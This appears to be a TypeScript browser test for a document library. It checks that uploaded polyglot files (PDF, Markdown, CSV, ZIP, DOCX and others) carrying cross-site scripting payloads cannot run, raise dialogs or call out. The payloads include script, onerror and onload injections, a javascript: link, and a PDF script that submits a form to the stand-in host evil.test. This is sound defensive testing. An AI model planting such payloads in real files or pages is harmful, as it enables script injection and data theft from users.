/**
 * Files that somebody made to run in a reader's browser, brought to the library and opened in a real one, in every way there
 * is. First without our headers, by a server that believes names: they are alive.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser } from '@playwright/test'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { docxOf, pdfOf, toneOf, zipOf } from '#platform/documents/test-documents.ts'
import { until } from '#test/eventually.ts'
import { world, type World } from '#test/world.ts'
import { brought, readAll } from './test-files.ts'

/** With a viewer of PDFs, which the lean one of the npm package leaves out. */
const whole = process.env['FOYER_WHOLE_CHROMIUM']
const lean = process.env['FOYER_CHROMIUM'] ?? '/usr/bin/chromium'

let browser: Browser
beforeAll(async () => {
  const args = ['--no-sandbox', '--disable-gpu', '--disable-background-networking']
  browser = await chromium.launch(
    whole
      ? { executablePath: whole, args: [...args, '--headless=new'], ignoreDefaultArgs: ['--headless'] }
      : { args, executablePath: lean },
  )
})
afterAll(() => browser.close())

const attack = `<script>hit()</script><img src=x onerror="hit()"><svg onload="hit()"><a href="http://evil.test/">x</a>`
const script = "app.alert('hit'); this.submitForm('http://evil.test/')"

async function hostile(): Promise<{ name: string; content: Buffer; as: string }[]> {
  const behind = (content: Buffer) => Buffer.concat([content, Buffer.from(`\n${attack}`)])
  return [
    { name: 'poly.pdf', content: behind(pdfOf(['Rien'], { script })), as: 'application/pdf' },
    { name: 'poly.txt', content: behind(Buffer.from('Des mots. '.repeat(1000))), as: 'text/html' },
    {
      name: 'poly.md',
      content: Buffer.from(`[x](javascript:hit()) ${'mots '.repeat(2000)}${attack}`),
      as: 'text/html',
    },
    { name: 'poly.csv', content: behind(Buffer.from('nom,âge\n'.repeat(1200))), as: 'text/html' },
    { name: 'poly.wav', content: behind(toneOf(1)), as: 'text/html' },
    { name: 'poly.zip', content: await zipOf([{ name: 'page.html', text: attack, plain: true }]), as: 'text/html' },
    { name: 'poly.bin', content: Buffer.concat([Buffer.alloc(5000), Buffer.from(attack)]), as: 'text/html' },
    { name: 'poly.docx', content: await docxOf([attack]), as: 'text/html' },
  ]
}

type Struck = { hits: number; dialogs: number; outside: string[] }

/** Opens each address in a page of its own, opens what is folded, and presses in the middle; waits for what is awaited. */
async function open(
  addresses: readonly string[],
  { cookie, awaited }: { cookie?: string; awaited?: (struck: Struck) => boolean },
): Promise<Struck> {
  const struck: Struck = { hits: 0, dialogs: 0, outside: [] }
  const context = await browser.newContext({ locale: 'fr-FR', ...(cookie && { extraHTTPHeaders: { cookie } }) })
  await context.exposeFunction('hit', () => void (struck.hits += 1))
  context.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.test') struck.outside.push(request.url())
  })
  for (const address of addresses) {
    const page = await context.newPage()
    page.on('dialog', (dialog) => {
      struck.dialogs += 1
      void dialog.dismiss()
    })
    // What is saved is no page: the browser says so by giving up.
    await page.goto(address, { waitUntil: 'load' }).catch(() => undefined)
    // What is shown by itself, under a policy that lets nothing run, answers no press.
    if (page.url().startsWith(address) && (await page.locator('main').count()) > 0) {
      for (const each of await page.locator('.file details:not([open]) > summary').all()) await each.click()
      await page.mouse.click(300, 300)
    }
    if (address === addresses.at(-1) && awaited) await until(() => awaited(struck))
    await page.close()
  }
  await context.close()
  return struck
}

test('a server that believes names lets them run', async () => {
  const files = await hostile()
  const server = createServer((request, response) => {
    const file = files.find(({ name }) => request.url === `/${name}`)
    response.writeHead(file ? 200 : 404, { 'content-type': file?.as ?? 'text/plain' }).end(file?.content)
  }).listen(0)
  const { port } = server.address() as AddressInfo
  const struck = await open(
    files.toReversed().map(({ name }) => `http://localhost:${port}/${name}`),
    { awaited: ({ hits, dialogs }) => hits >= 5 && (!whole || dialogs > 0) },
  )
  server.close()
  expect(struck.hits).toBeGreaterThanOrEqual(5)
  expect(struck.dialogs).toBeGreaterThanOrEqual(whole ? 1 : 0)
})

test('in the library none of them runs, speaks or calls out: on its page, read, shown, or saved', async () => {
  const at: World = await world()
  const ids: number[] = []
  for (const { name, content } of await hostile())
    ids.push(await brought(at, at.tom, name, content, { title: `Le fichier ${name}` }))
  await readAll(at)
  const origin = await at.serve()
  const ways = ['', '/files/1', '/files/1/shown', '/files/1/cover', '/files/1/pages', '/files/1/pages/1']
  const asked = ids.flatMap((id) => ways.map((way) => `/library/${id}${way}`))
  const answers = await Promise.all(asked.map(async (way) => (await at.as(at.odile).get(way)).status))
  const there = asked.filter((_, nth) => answers[nth] !== 404)
  // Every page and everything that is saved, what is played, and the PDF in its three ways: nothing more is given.
  expect(there).toHaveLength(ids.length * 2 + 1 + 3)
  const struck = await open(
    [...there, '/search?q=mots', '/library'].map((way) => origin + way),
    { cookie: await at.cookie(at.odile) },
  )
  expect(struck).toEqual({ hits: 0, dialogs: 0, outside: [] })
  const page = await at.as(at.odile).text(`/library/${ids[0]}/files/1/pages`)
  expect(page).toContain('Page 1 sur 1')
  expect((await at.as(at.odile).get(`/library/${ids[0]}/files/1/pages/1`)).headers['content-type']).toBe('image/webp')
  expect((await at.as(at.odile).get(`/library/${ids[0]}/files/1/pages/2`)).status).toBe(404)
}, 180_000)
